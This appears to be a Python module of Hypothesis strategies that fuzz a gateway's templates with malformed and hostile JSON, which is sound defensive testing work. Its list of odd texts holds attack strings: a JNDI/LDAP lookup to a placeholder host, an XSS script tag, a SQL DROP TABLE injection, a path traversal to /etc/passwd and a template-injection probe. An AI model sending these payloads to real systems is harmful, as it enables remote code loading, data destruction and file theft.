"""
Hypothesis strategies for hostile payloads: what a template must read or refuse, and never crash on.

    @given(json_values())
    def test_whatever_comes(data): …

    @given(changed(sample))
    def test_a_sample_with_anything_in_it(data): …

All of it is JSON that comes through to a template: NUL, integers over 64 bit, deep nesting, keys that look like paths. What
the gateway refuses before, NaN, infinity and lone surrogates, is not among it.
"""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

from gateway.testing.mutations import EMOJI, VALUES, mutated, paths

DEEPEST = 60
"""How deep `nested` goes; the gateway refuses bodies that are much deeper before a template sees them."""
_ODD_TEXTS = (
    "",
    " ",
    "\0",
    "\ufeff\u200b\u202e",
    "e\u0301\u0323\u0489",
    "ﷺ",
    EMOJI,
    "None",
    "null",
    "NaN",
    "-0",
    "1e999",
    "0x10",
    "9999-99-99T99:99:99Z",
    "{{7*7}}",
    "{subject}",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "'; DROP TABLE alerts; --",
    "../../../../etc/passwd",
    "x" * 20_000,
)
_ODD_KEYS = ("", " ", "$", "@", "a.b", "a[0]", "_message", "_headers", "__class__", "__proto__", "\0", EMOJI)
_CHARACTERS = st.characters(exclude_categories=["Cs"])
_ODD_NUMBERS = (0, -1, 1 << 63, -(1 << 63) - 1, 1 << 200, 10**400, -0.0, 5e-324, 1.7976931348623157e308, 0.1 + 0.2)


def texts(max_size: int = 40) -> st.SearchStrategy[str]:
    """Any text, odd ones often: NUL, signs that turn the direction, words that look like values."""
    return st.one_of(
        st.sampled_from(_ODD_TEXTS),
        st.text(_CHARACTERS, max_size=max_size),
        st.datetimes().map(lambda moment: moment.isoformat()),
    )


def numbers() -> st.SearchStrategy[int | float]:
    """Any number that JSON can say, whole ones of any size."""
    return st.one_of(
        st.sampled_from(_ODD_NUMBERS),
        st.integers(),
        st.integers(-(10**18), 10**18),
        st.floats(allow_nan=False, allow_infinity=False),
    )


def scalars() -> st.SearchStrategy[Any]:
    """null, true, false, a number or a text."""
    return st.one_of(st.none(), st.booleans(), numbers(), texts())


def keys() -> st.SearchStrategy[str]:
    """Keys of an object, those among them that a path would trip over."""
    return st.one_of(st.sampled_from(_ODD_KEYS), st.text(_CHARACTERS, max_size=12))


def json_values(max_leaves: int = 30) -> st.SearchStrategy[Any]:
    """Any JSON value, wide or deep."""
    values: st.SearchStrategy[Any] = st.recursive(
        scalars(),
        lambda inner: st.one_of(st.lists(inner, max_size=6), st.dictionaries(keys(), inner, max_size=6)),
        max_leaves=max_leaves,
    )
    return st.one_of(values, nested())


def nested(deepest: int = DEEPEST) -> st.SearchStrategy[Any]:
    """A value inside many lists and objects."""

    def wrapped(value: Any, layers: list[str | None]) -> Any:
        for key in layers:
            value = [value] if key is None else {key: value}
        return value

    return st.builds(wrapped, scalars(), st.lists(st.one_of(st.none(), keys()), min_size=1, max_size=deepest))


@st.composite
def changed(draw: st.DrawFn, sample: Any, most: int = 3) -> Any:
    """
    A payload with up to `most` of its values dropped, or replaced by something of a wrong type or by anything at all.

    The paths are those of the sample, so what is wrong is where a template looks.
    """
    data = sample
    for _ in range(draw(st.integers(1, most))):
        path = draw(st.sampled_from(list(paths(data))))
        if path and draw(st.integers(0, 4)) == 0:
            data = mutated(data, path, drop=True)
        else:
            value = draw(st.one_of(st.sampled_from([value for _, value in VALUES]), json_values(max_leaves=8)))
            data = mutated(data, path, value)
    return data
